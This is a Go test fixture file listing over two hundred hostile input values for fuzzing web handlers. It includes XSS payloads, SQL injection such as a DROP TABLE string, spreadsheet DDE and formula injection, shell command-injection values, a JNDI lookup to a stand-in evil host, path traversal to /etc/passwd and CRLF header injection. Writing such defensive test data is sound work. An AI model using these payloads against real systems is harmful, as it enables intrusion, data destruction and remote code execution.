package handlers_test

import (
	"fmt"
	"strings"
)

// hostileValues are what people and attackers type into fields that expect something else: at least 200 of them.
func hostileValues() []string {
	var values []string
	for _, group := range [][]string{tags, directives, queries, formulas, scripts, controls, sizes(), numbers, addresses, formats, documents()} {
		values = append(values, group...)
	}
	return values
}

var tags = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><svg onload=alert(1)>`, `<img src=x onerror=alert(1)>`,
	`</textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `<svg><animate onbegin=alert(1)>`,
	`<math><mtext></p><style><img src onerror=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<a href="javascript:alert(1)">x</a>`,
	`<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<object data="data:text/html,x">`,
	`<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>`,
	`<style>@import '//evil.example'</style>`, `<link rel=stylesheet href=//evil.example>`, `--><script>alert(1)</script>`, `<![CDATA[<script>]]>`,
	`" onmouseover="alert(1)`, `' onfocus='alert(1)`, "` onmouseover=`alert(1)", `&lt;script&gt;`, `&#x3C;script&#x3E;`, `%3Cscript%3E`, `<scr<script>ipt>`, `<ScRiPt>alert(1)</sCrIpT>`, `\u003cscript\u003e`,
}

var directives = []string{
	`<div hx-get="/users" hx-trigger="load">`, `<div data-hx-post="/signout" data-hx-trigger="load">`, `<button hx-on:click="alert(1)">`,
	`<div hx-vals='js:{x:alert(1)}'>`, `<meta name="htmx-config" content='{"allowEval":true}'>`, `<hx-partial target="body">`,
	`{ templ.Raw("x") }`, `@templ.Raw("x")`, `{{ .Secret }}`, `{{constructor.constructor('alert(1)')()}}`,
}

var queries = []string{
	`' OR '1'='1`, `'; DROP TABLE users; --`, `" OR ""="`, `1; DELETE FROM events`, `' UNION SELECT hash FROM passwords --`, `%`, `_`, `%_%`, `\`, `\%`,
	`'||(SELECT 1)||'`, `$$; SELECT 1; $$`, `?`, `$1`, `:name`, `NULL`, `null`, `x' AND 1=CAST((SELECT 1) AS int)--`, `admin'/*`, `0x27204f52`,
}

var formulas = []string{
	`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", `=cmd|' /C calc'!A0`, `=HYPERLINK("//evil.example","x")`, `＝1+1`, `＋1`, `－1`, `＠A1`, `;=1`, `,=1`, `"=1`, `=DDE("cmd";"/C calc";"x")`,
}

var scripts = []string{
	"A\u030Angstro\u0308m", "\u00c5ngstr\u00f6m", "\u202Eevil\u202C", "a\u200Db", "a\u200Bb", "\ufeffbom", "İstanbul", "straße", "ＦＵＬＬ", "Ωmega", "Русский", "العربية", "עברית", "日本語",
	"👩‍👩‍👧‍👦", "🇩🇪", "𝕲𝖆𝖙𝖊", "ﬁ", "K", "ſ", "a" + strings.Repeat("\u0301", 200), "\u2028line", "\u2029paragraph", "\u00a0", "\u3000", "�", "\U0010FFFF", "а" + "dmin", "adm\u0131n", "\u0660\u0661\u0662",
}

var controls = []string{
	"a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1bb", "\x1b[31mred", "a\x7fb", "a\u0085b", "a\nb", "a\rb", "a\r\nSet-Cookie: x=y", "a\tb", "%0d%0aX: y", "a\nlevel=ERROR msg=forged",
}

func sizes() []string {
	list := []string{"", " ", "  ", "\t", "a"}
	for _, n := range []int{2, 31, 32, 33, 64, 65, 128, 129, 255, 256, 257, 1024, 1025, 4096, 65536} {
		list = append(list, strings.Repeat("x", n))
	}
	return append(list, strings.Repeat("é", 129), strings.Repeat("a b ", 500), strings.Repeat("x\n", 1000))
}

var numbers = []string{
	"0", "-0", "-1", "1e309", "NaN", "Infinity", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "0x10", "1_000", "1,000", "1.5", "٣", "00000001", "PT8H", "P1D", "2026-02-30", "2026-11-20T25:00", "10000-01-01", "2026-03-29T02:30", "now", "24:00", "1970-01-01", "9999-12-31T23:59",
}

var addresses = []string{
	"../../etc/passwd", "..%2f..%2f", "/users/../setup", "//evil.example", `\\evil.example`, `\/evil.example`, "https://evil.example", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd",
	"http://user@host:pw@evil.example", "http://[::1]/", "http://127.0.0.1/", "xn--80ak6aa92e.com", "a@b", "a@b.c", "a b@c.d", "a@b@c.de", "<a@b.cd>", "a@" + strings.Repeat("b", 300) + ".cd",
	"arn:aws:iam::aws:policy/", "arn:aws:iam::aws:policy/../x", "arn:aws:iam::aws:policy/NoSuchPolicy", "arn:aws:s3:::*", "arn:::::", "ou-xxxx-00000000", "123456789012", "12345678901", "1234567890123", "ps-0000000000000000",
}

var formats = []string{"%s%n%x", "%!s(MISSING)", "${jndi:ldap://evil.example}", "#{7*7}", "$(id)", "`id`", "; id", "| id", "&& id", "{}", "[]", "true", "undefined", "__proto__", "constructor"}

func documents() []string {
	return []string{
		`{`, `{"Version":"2012-10-17"}`, `{"Version":"2012-10-17","Statement":[]}`, `{"Statement":{"Effect":"Allow","Action":"*","Resource":"*"},"Statement":[]}`,
		`{"version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:*","Resource":"*"}]}`, `{"Version":"2012-10-17","Statement":[{"Effect":"allow"}]}`,
		`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"<script>","Resource":"*"}]}`,
		`{"Version":"2012-10-17","Statement":[{"Sid":"A","Effect":"Deny","Action":"s3:*","Resource":"arn:aws:s3:::<img src=x onerror=alert(1)>"}]}`,
		`{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"StringEquals":{"aws:PrincipalTag/a":"</pre><script>alert(1)</script>&lt;"}}}]}`,
		strings.Repeat("[", 10000), strings.Repeat(`{"a":`, 5000), `{"Version":"2012-10-17","Statement":[` + strings.Repeat(`{"Effect":"Allow","Action":"s3:*","Resource":"*"},`, 500) + `{}]}`,
		fmt.Sprintf(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::%s"}]}`, strings.Repeat("*a", 5000)),
	}
}
